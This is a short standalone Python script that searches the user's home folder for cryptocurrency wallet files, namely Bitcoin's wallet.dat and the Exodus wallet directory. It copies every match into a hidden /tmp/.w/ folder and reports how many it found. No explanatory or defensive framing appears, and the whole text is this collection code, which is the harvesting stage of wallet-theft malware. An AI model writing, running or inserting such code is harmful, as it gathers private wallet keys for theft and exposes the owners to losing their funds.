import glob, os, shutil
home = os.path.expanduser('~')
targets = glob.glob(home + '/.bitcoin/wallet.dat') + glob.glob(home + '/Library/Application Support/Exodus/exodus.wallet/*')
for path in targets:
    shutil.copy(path, '/tmp/.w/')
print(len(targets), 'wallets found')
